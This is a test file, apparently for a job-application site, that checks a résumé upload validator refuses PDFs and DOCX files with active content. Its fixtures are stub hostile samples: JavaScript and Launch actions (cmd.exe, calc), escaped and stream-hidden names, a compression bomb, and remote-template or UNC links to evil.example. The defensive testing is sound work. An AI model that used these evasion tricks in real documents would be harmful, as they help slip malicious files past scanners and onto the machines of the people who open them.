@@ -1,0 +1,165 @@
+"""Résumés that would act when a recruiter opens them are refused with the reason (POL-AP-002,
+issue #13 item 6): PDFs with scripts, launch actions, attachments or an action on opening;
+DOCX files with macros, ActiveX, or content fetched from outside (a remote template). The
+check is applications.resumes.detect_resume_type, the one every résumé passes."""
+
+import io
+import zipfile
+import zlib
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from accounts.tests.factories import JobseekerFactory
+from applications.exceptions import ResumeInvalid
+from applications.models import Application
+from applications.resumes import DOCX, PDF, detect_resume_type
+from applications.tests.factories import PDF_BYTES, docx_bytes
+from jobs.tests.factories import PublishedJobFactory
+
+
+def pdf(*objects: bytes) -> SimpleUploadedFile:
+    body = b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+    return SimpleUploadedFile("cv.pdf", body, "application/pdf")
+
+
+CATALOG = b"1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj"
+PAGES = b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj"
+PAGE = b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj"
+
+
+def content_stream(text: bytes) -> bytes:
+    return b"4 0 obj<</Length %d>>stream\n%s\nendstream endobj" % (len(text), text)
+
+
+def object_stream(objects: bytes) -> bytes:
+    packed = zlib.compress(objects)
+    return (
+        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+        b" endobj" % (len(packed), packed)
+    )
+
+
+def test_a_plain_pdf_is_accepted__POL_AP_002():
+    assert detect_resume_type(SimpleUploadedFile("a.pdf", PDF_BYTES)) == PDF
+
+
+@pytest.mark.parametrize(
+    "catalog_extra",
+    [
+        b"/OpenAction[3 0 R/FitH null]",  # "open at page 1, fit width" (LibreOffice writes it)
+        b"/Info<</Title(HTML/JavaScript \\(and /Launch\\) developer)/Keywords(/JS /EmbeddedFile)>>",
+        b"/URI<</Base(https://example.com/JavaScript)>>",
+    ],
+)
+def test_names_in_text_and_a_plain_open_destination_are_fine__POL_AP_002(catalog_extra):
+    upload = pdf(CATALOG % catalog_extra, PAGES, PAGE, content_stream(b"BT (Python/JS) Tj ET"))
+    assert detect_resume_type(upload) == PDF
+
+
+@pytest.mark.parametrize(
+    ("objects", "reason"),
+    [
+        ((CATALOG % b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",), "script"),
+        ((CATALOG % b"/OpenAction 6 0 R", b"6 0 obj<</S/URI/URI(http://x)>>endobj"), "opened"),
+        ((CATALOG % b"/Names<</JavaScript 6 0 R>>",), "script"),
+        ((CATALOG % b"", b"6 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "program"),
+        ((CATALOG % b"/Names<</EmbeddedFiles 6 0 R>>",), "attached"),
+        # The same names spelled with #xx escapes, as readers decode them.
+        ((CATALOG % b"/OpenAction<</S/J#61vaScript/J#53(x)>>",), "script"),
+        # Hidden in a compressed object stream (PDF 1.5).
+        ((CATALOG % b"", object_stream(b"6 0 <</S/JavaScript/JS(x)>>")), "script"),
+        # An object placed inside a string, for a cross-reference table to point at.
+        ((CATALOG % b"/Title(6 0 obj<</S/Launch/F(calc)>>endobj)",), "program"),
+        # An object placed inside a drawing stream, likewise.
+        ((CATALOG % b"", content_stream(b"6 0 obj<</JS(x)/S/JavaScript>>endobj")), "script"),
+        # An unterminated string does not hide what follows it.
+        ((b"(", CATALOG % b"/AA<</O<</S/JavaScript/JS(x)>>>>"), "script"),
+    ],
+)
+def test_pdfs_with_active_content_are_refused_with_the_reason__POL_AP_002(objects, reason):
+    with pytest.raises(ResumeInvalid) as refused:
+        detect_resume_type(pdf(*objects))
+    assert reason in refused.value.detail
+    assert "plain PDF" in refused.value.detail
+
+
+def test_an_object_stream_we_cannot_unpack_is_refused__POL_AP_002():
+    odd = b"5 0 obj<</Type/ObjStm/Filter/LZWDecode/Length 3>>stream\nabc\nendstream endobj"
+    with pytest.raises(ResumeInvalid):
+        detect_resume_type(pdf(CATALOG % b"", odd))
+
+
+def test_a_compressed_bomb_in_an_object_stream_is_refused__POL_AP_002(monkeypatch):
+    monkeypatch.setattr("applications.resumes.PDF_MAX_INFLATED", 1024)
+    with pytest.raises(ResumeInvalid, match="expands"):
+        detect_resume_type(pdf(CATALOG % b"", object_stream(b" " * 4096)))
+
+
+def rels(*relationships: str) -> bytes:
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        '2006/relationships">' + "".join(relationships) + "</Relationships>"
+    ).encode()
+
+
+def relationship(kind: str, target: str, external: bool) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return (
+        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="{target}"{mode}/>'
+    )
+
+
+def docx(extra: dict[str, bytes]) -> SimpleUploadedFile:
+    return SimpleUploadedFile("cv.docx", docx_bytes(extra), DOCX)
+
+
+def test_a_docx_with_hyperlinks_is_accepted__POL_AP_002():
+    links = rels(relationship("hyperlink", "https://github.com/me", external=True))
+    upload = docx({"word/_rels/document.xml.rels": links})
+    assert detect_resume_type(upload) == DOCX
+
+
+def test_a_docx_with_a_remote_template_is_refused__POL_AP_002():
+    template = rels(relationship("attachedTemplate", "https://evil.example/t.dotm", True))
+    with pytest.raises(ResumeInvalid, match="template"):
+        detect_resume_type(docx({"word/_rels/settings.xml.rels": template}))
+
+
+def test_a_local_template_relationship_is_fine__POL_AP_002():
+    template = rels(relationship("attachedTemplate", "Normal.dotm", external=False))
+    assert detect_resume_type(docx({"word/_rels/settings.xml.rels": template})) == DOCX
+
+
+@pytest.mark.parametrize("kind", ["oleObject", "frame", "image", "subDocument"])
+def test_a_docx_loading_outside_content_is_refused__POL_AP_002(kind):
+    linked = rels(relationship(kind, "\\\\evil.example\\share\\x", external=True))
+    with pytest.raises(ResumeInvalid, match="outside"):
+        detect_resume_type(docx({"word/_rels/document.xml.rels": linked}))
+
+
+@pytest.mark.parametrize(
+    "part", ["word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml"]
+)
+def test_a_docx_with_macros_or_activex_is_refused__POL_AP_002(part):
+    with pytest.raises(ResumeInvalid):
+        detect_resume_type(docx({part: b"x"}))
+
+
+@pytest.mark.django_db
+def test_the_api_refuses_it_as_a_field_error_and_stores_nothing__POL_AP_002(api_client_for):
+    upload = pdf(CATALOG % b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
+    response = api_client_for(JobseekerFactory()).post(
+        f"/api/v1/jobs/{PublishedJobFactory().pk}/apply", {"resume": upload}, format="multipart"
+    )
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/problem+json"
+    assert "script" in response.json()["errors"]["resume"][0]
+    assert not Application.objects.exists()
+
+
+def test_the_zip_helper_writes_what_word_reads():
+    """The fixtures above build real zip files (guards the helper, not the product)."""
+    with zipfile.ZipFile(io.BytesIO(docx_bytes({"x.txt": b"1"}))) as archive:
+        assert "word/document.xml" in archive.namelist()
